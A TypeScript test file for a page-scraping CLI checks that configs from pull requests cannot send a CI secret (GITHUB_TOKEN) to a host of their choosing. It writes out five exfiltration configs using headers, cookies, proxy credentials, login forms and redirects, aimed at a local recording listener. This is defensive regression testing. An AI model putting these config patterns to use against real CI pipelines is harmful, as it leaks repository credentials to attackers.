import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ensureBuilt } from '../support/build-once.js';
import { createCliProject, initWithExamples, type CliProject } from '../support/cli-project.js';
import { spawnServe } from './daemon-support.js';

/**
 * Issue 45, finding 1: a pull request's config naming a CI secret (`${GITHUB_TOKEN}`) in a header, a cookie, a
 * proxy's password, a login form or an Authorization sent to redirects, pointed at a host of its choosing. The
 * host here is a local listener that records every byte it is sent. Without the operator allowing the
 * variable, no path (run, check, snapshot, validate --live, the daemon) sends the listener anything, and each
 * fails naming the variable and how to allow it; allowed, the same config delivers it (the attack is real).
 */
const STOLEN = 'ghp_CiSecretThatMustNeverLeave0123456789';
const ENV = { GITHUB_TOKEN: STOLEN };
const REFUSED = 'the environment variable GITHUB_TOKEN is not allowed';
const HOW = 'allow it with PAGEJSON_SECRETS=GITHUB_TOKEN or --allow-secret GITHUB_TOKEN';

interface Listener {
  origin: string;
  port: number;
  /** Everything received: request lines, headers and bodies, CONNECT requests of a proxy client included. */
  received: string[];
  close(): Promise<void>;
}

async function startListener(): Promise<Listener> {
  const received: string[] = [];
  const record = (request: IncomingMessage, body = ''): void => {
    received.push(`${request.method} ${request.url}\n${request.rawHeaders.join('\n')}\n${body}`);
  };
  const server: Server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += String(chunk)));
    request.on('end', () => {
      record(request, body);
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end(
        '<html><body><form method="post" action="/login"><input name="password" type="password"></form><h1>ok</h1></body></html>',
      );
    });
  });
  server.on('connect', (request: IncomingMessage, socket: Socket) => {
    record(request);
    socket.end('HTTP/1.1 502 Bad Gateway\r\n\r\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    port,
    received,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

let listener: Listener;
let project: CliProject;

const STRUCTURE = [{ name: 'title', type: 'string', selector: 'h1' }];
const attacks = (): Array<Record<string, unknown>> => [
  { apiId: 'in-header', url: `${listener.origin}/page`, request: { headers: { 'X-Token': '${GITHUB_TOKEN}' } } },
  { apiId: 'in-cookie', url: `${listener.origin}/page`, request: { cookies: { t: '${GITHUB_TOKEN}' } } },
  // The page is named, never reached: the proxy is asked for it.
  {
    apiId: 'in-proxy',
    url: 'http://pagejson-target.invalid/page',
    proxy: { urls: [`http://x:\${GITHUB_TOKEN}@127.0.0.1:${listener.port}`] },
  },
  { apiId: 'in-login', url: `${listener.origin}/page`, login: { url: `${listener.origin}/login`, form: { password: '${GITHUB_TOKEN}' } } },
  {
    apiId: 'to-redirects',
    url: `${listener.origin}/page`,
    request: { headers: { Authorization: 'token ${GITHUB_TOKEN}' }, sendToRedirects: true },
  },
];

beforeAll(async () => {
  await ensureBuilt();
  listener = await startListener();
  project = await createCliProject();
  await initWithExamples(project, listener.origin, []);
  for (const attack of attacks())
    await project.write(`configs/${String(attack.apiId)}.json`, `${JSON.stringify({ ...attack, structure: STRUCTURE }, null, 2)}\n`);
}, 300_000);

afterAll(async () => {
  await project?.remove();
  await listener?.close();
});

beforeEach(() => {
  listener.received.length = 0;
});

describe('a config naming a CI secret the operator did not allow', () => {
  it.each(['in-header', 'in-cookie', 'in-proxy', 'in-login', 'to-redirects'])(
    'run %s fails before any request, naming the variable and how to allow it',
    async (apiId) => {
      const result = await project.run(['run', apiId], { env: ENV });
      expect(result.exitCode).toBe(1);
      expect(result.stderr).toContain(REFUSED);
      expect(result.stderr).toContain(HOW);
      expect(listener.received).toEqual([]);
      expect(result.stdout + result.stderr).not.toContain(STOLEN);
    },
  );

  it('check, snapshot and validate --live send nothing either, and exit non-zero', async () => {
    const check = await project.run(['check', '--json'], { env: ENV });
    const snapshot = await project.run(['snapshot', 'in-login'], { env: ENV });
    const live = await project.run(['validate', '--live', '--format', 'json'], { env: ENV });
    for (const result of [check, snapshot, live]) {
      expect(result.exitCode).not.toBe(0);
      expect(result.stdout + result.stderr).toContain(REFUSED);
      expect(result.stdout + result.stderr).not.toContain(STOLEN);
    }
    // Every attack config is refused by validate --live, each naming where the variable stands.
    const problems = (JSON.parse(live.stdout) as { problems: Array<{ message: string }> }).problems.map((p) => p.message);
    for (const where of [
      'request.headers.X-Token',
      'request.cookies.t',
      'proxy.urls[0]',
      'login.form.password',
      'request.headers.Authorization',
    ])
      expect(problems.some((message) => message.includes(`${REFUSED} (used in ${where})`))).toBe(true);
    expect(listener.received).toEqual([]);
  });

  it('the daemon answers 502 naming the variable and sends nothing', async () => {
    const created = await project.run(['keys', 'create', '--json']);
    const key = (JSON.parse(created.stdout) as { key: string }).key;
    const serve = await spawnServe(project.dir, ['--no-watch'], ENV);
    try {
      const answer = await fetch(`${serve.url}/external/in-header`, { headers: { apikey: key } });
      expect(answer.status).toBe(502);
      const text = await answer.text();
      expect(text).toContain(`source page could not be fetched: ${REFUSED} (used in request.headers.X-Token): ${HOW}`);
      expect(text).not.toContain(STOLEN);
      expect(listener.received).toEqual([]);
    } finally {
      serve.child.kill('SIGTERM');
      await serve.child;
    }
  });

  it('allowed by the operator, the same configs deliver the value: the refusal is what stops them', async () => {
    // What the run answers does not matter here (a loaded machine may run past the extraction budget): what the listener got does.
    await project.run(['--allow-secret', 'GITHUB_TOKEN', 'run', 'in-header'], { env: ENV });
    expect(listener.received.join('\n')).toContain(STOLEN);

    listener.received.length = 0;
    await project.run(['run', 'in-cookie'], { env: { ...ENV, PAGEJSON_SECRETS: 'SHOP_USER,GITHUB_TOKEN' } });
    expect(listener.received.join('\n')).toContain(`t=${STOLEN}`);
  });

  it('validate lists the variables each config reads, and which are not allowed here', async () => {
    const json = await project.run(['validate', '--format', 'json'], { env: { ...ENV, PAGEJSON_SECRETS: 'SHOP_USER' } });
    const report = JSON.parse(json.stdout) as { files: Array<{ file: string; secrets?: string[] }>; secretsAllowed: string[] };
    expect(report.secretsAllowed).toEqual(['SHOP_USER']);
    expect(report.files.find((f) => f.file.endsWith('in-proxy.json'))?.secrets).toEqual(['GITHUB_TOKEN']);
    expect(report.files.find((f) => f.file.endsWith('pagejson.json'))?.secrets).toEqual([]);
    const text = await project.run(['validate'], { env: ENV });
    expect(text.stdout).toContain('configs/in-login.json reads the environment variables GITHUB_TOKEN (not allowed)');
    const allowed = await project.run(['validate', '--allow-secret', 'GITHUB_TOKEN'], { env: ENV });
    expect(allowed.stdout).toContain('configs/in-login.json reads the environment variables GITHUB_TOKEN\n');
    expect(listener.received).toEqual([]);
  });

  it('--allow-secret refuses what is not a variable name', async () => {
    const result = await project.run(['run', 'in-header', '--allow-secret', 'github_token'], { env: ENV });
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toContain('--allow-secret takes an environment variable name, not "github_token"');
    expect(listener.received).toEqual([]);
  });
});
